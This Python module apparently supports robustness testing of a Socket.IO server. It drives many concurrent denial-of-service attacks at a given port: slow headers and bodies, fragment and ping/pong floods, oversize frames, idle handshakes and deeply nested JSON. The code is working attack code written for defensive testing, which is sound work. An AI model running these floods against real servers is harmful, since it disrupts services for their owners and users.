"""Attacks on a Socket.IO server, each by many connections for some seconds, in a process of their own.

    python -m support.attacks NAME --port 3000 --count 50 --seconds 2

An attacker that the server turns away comes back at once, at most `_AGAIN_PER_S` times a second each.
"""

import argparse
import asyncio
import contextlib
import json
import time
from collections.abc import Awaitable, Callable

from support.engineio_wire import SOCKET_PATH
from support.http_wire import Answer, ConnectionEnded, HttpWire
from support.websocket_wire import (
    BINARY,
    CONTINUATION,
    PING,
    PONG,
    TEXT,
    HandshakeRefused,
    WireClosed,
    WireSocket,
    frame_bytes,
)

_AGAIN_PER_S = 10
_STEP_S = 0.05
_GONE = (ConnectionError, ConnectionEnded, WireClosed, HandshakeRefused, TimeoutError, OSError)
_POLLING = f"{SOCKET_PATH}?EIO=4&transport=polling"
_WEBSOCKET = f"{SOCKET_PATH}?EIO=4&transport=websocket"

Attack = Callable[[int], Awaitable[None]]
"""One connection on a port, until it is turned away or has nothing left to do."""


async def slow_head(port: int) -> None:
    async with await HttpWire.open(port) as wire:
        await wire.write(b"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: a\r\n")
        while True:
            await wire.write(b"X-Slow: 1\r\n"[:3])
            await asyncio.sleep(_STEP_S)


async def slow_body(port: int) -> None:
    async with await HttpWire.open(port) as wire:
        target = await _session(wire)
        await wire.write(
            f"POST {target} HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\n"
            "Content-Length: 16000\r\n\r\n".encode()
        )
        while True:
            await wire.write(b"4")
            await asyncio.sleep(_STEP_S)


async def tiny_fragments(port: int) -> None:
    async with await HttpWire.open(port) as wire:
        socket = await _joined(wire)
        await socket.send_frame(TEXT, b"4", is_final=False)
        fragments = frame_bytes(CONTINUATION, b"2", is_final=False) * 200
        while True:
            await socket.send_raw(fragments)
            await asyncio.sleep(_STEP_S)


async def oversize(port: int) -> None:
    async with await HttpWire.open(port) as wire:
        socket = await _joined(wire)
        await socket.send_raw(frame_bytes(TEXT, b"x" * 60_000, claimed_length=2**40))
        await socket.hung_up()
    async with await HttpWire.open(port) as wire:
        await wire.request("POST", await _session(wire), body=b"x" * 300_000)


async def many_attachments(port: int) -> None:
    async with await HttpWire.open(port) as wire:
        socket = await _joined(wire)
        await socket.send('451000000000-["message",{"_placeholder":true,"num":0}]')
        for _ in range(50):
            await socket.send_frame(BINARY, b"\0" * 16_000)
        await socket.hung_up()
    async with await HttpWire.open(port) as wire:
        target = await _session(wire)
        await wire.request("POST", target, body="40")
        await wire.request("POST", target, body='454-["message",{"_placeholder":true,"num":0}]')
        await wire.request("POST", target, body="b" + "A" * 16_000)


async def pong_flood(port: int) -> None:
    async with await HttpWire.open(port) as wire:
        socket = await _joined(wire)
        flood = frame_bytes(PONG, b"p" * 125) * 20 + frame_bytes(PING, b"p" * 125) * 20
        while True:  # the answers to the pings are never read
            async with asyncio.timeout(1.0):
                await socket.send_raw(flood)
            await asyncio.sleep(_STEP_S)


async def idle_handshake(port: int) -> None:
    async with await HttpWire.open(port) as wire:
        await WireSocket.open(wire, _WEBSOCKET)
        async with await HttpWire.open(port) as other:
            await _session(other)
        await asyncio.sleep(60)


async def half_open_upgrade(port: int) -> None:
    async with await HttpWire.open(port) as wire, await HttpWire.open(port) as other:
        target = await _session(wire)
        socket = await WireSocket.open(other, target.replace("transport=polling", "transport=websocket"))
        await socket.send("2probe")
        await asyncio.sleep(60)


async def deep_json(port: int) -> None:
    async with await HttpWire.open(port) as wire:
        socket = await _joined(wire)
        for depth in (12, 8_000):
            await socket.send('42["message",' + "[" * depth + "]" * depth + "]")
        await socket.hung_up()
    async with await HttpWire.open(port) as wire:
        target = await _session(wire)
        await wire.request("POST", target, body="40" + '{"a":' * 3_000 + "1" + "}" * 3_000)


ATTACKS: dict[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        slow_head,
        slow_body,
        tiny_fragments,
        oversize,
        many_attachments,
        pong_flood,
        idle_handshake,
        half_open_upgrade,
        deep_json,
    )
}


async def _session(wire: HttpWire) -> str:
    """The target of a new polling session."""
    opened: Answer = await wire.request("GET", _POLLING, within_s=10)
    if opened.status != 200:
        raise ConnectionError(opened.text)
    return f"{_POLLING}&sid={json.loads(opened.text[1:])['sid']}"


async def _joined(wire: HttpWire) -> WireSocket:
    socket = await WireSocket.open(wire, _WEBSOCKET)
    await socket.text()
    await socket.send("40")
    return socket


async def run(name: str, port: int, count: int, seconds: float) -> int:
    """How often some connection was tried."""
    until = time.monotonic() + seconds
    tried = 0

    async def attacker() -> None:
        nonlocal tried
        while time.monotonic() < until:
            began = time.monotonic()
            tried += 1
            with contextlib.suppress(*_GONE):
                async with asyncio.timeout(until - began):
                    await ATTACKS[name](port)
            await asyncio.sleep(max(0.0, began + 1 / _AGAIN_PER_S - time.monotonic()))

    await asyncio.gather(*(attacker() for _ in range(count)))
    return tried


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, default=50)
    parser.add_argument("--seconds", type=float, default=2.0)
    given = parser.parse_args()
    print(asyncio.run(run(given.name, given.port, given.count, given.seconds)))
